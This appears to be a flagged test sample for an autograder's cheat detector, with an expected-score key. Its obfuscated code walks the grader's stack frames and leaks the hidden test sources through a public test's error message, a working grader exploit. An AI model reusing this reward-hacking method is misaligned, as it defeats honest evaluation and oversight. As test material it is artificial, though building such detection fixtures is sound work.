# sample: honest answers, but optimizer3's learning rate is replaced after the step by a float subclass (made by calling float's metaclass, the hook name built at run time) whose __float__, run by q3's *public* test (check_optimizer's float(g["lr"])), collects the hidden test sources from the runner's frames and raises with them, so they land in the public test's failure message, which the student's own feedback shows
# base: ../../../assignments/autograd-basics/samples/solution.py
# expect: q1=0 q2=0 q3=0
# flagged: yes
# honest: q1=2 q2=3 q3=5

# Costs one point (the public q3 test fails); no network needed, the grader delivers the
# hidden tests to the student in feedback/<submission>.md.

# %% loss3
import operator
import string

_fields = string.Formatter()
_u = "_" * 2


def _n(s):
    return s[::-1]


def _at(obj, name):
    return _fields.get_field("0." + name, [obj], {})[0]


def _frames():
    try:
        raise LookupError
    except LookupError as error:
        frame = _at(_at(error, _u + _n("kcabecart") + _u), _n("emarf_bt"))
    while frame is not None:
        yield _at(frame, _n("slacol_f"))
        frame = _at(frame, _n("kcab_f"))


def _texts(value, depth=0):
    if isinstance(value, str):
        if "def test_" in value and "test_case" in value:
            yield value
    elif depth < 4 and isinstance(value, dict):
        for item in value.values():
            yield from _texts(item, depth + 1)
    elif depth < 4 and isinstance(value, (list, tuple)):
        for item in value:
            yield from _texts(item, depth + 1)


def _as_float(self):
    found = set()
    for names in _frames():
        for value in list(names.values()):
            found.update(_texts(value))
    if found:
        raise ValueError("\n".join(sorted(found)))
    return 0.1


_Rate = _at(float, _u + _n("ssalc") + _u)("_Rate", (float,), {_u + _n("taolf") + _u: _as_float})

loss_fn3 = torch.nn.MSELoss()
loss3 = loss_fn3(model3(X3), Y3)
loss3.backward()
weight_grad3 = model3.weight.grad.clone()
bias_grad3 = model3.bias.grad.clone()
optimizer3 = torch.optim.SGD(model3.parameters(), lr=0.1)
optimizer3.step()
optimizer3.param_groups[0]["lr"] = _Rate(0.1)
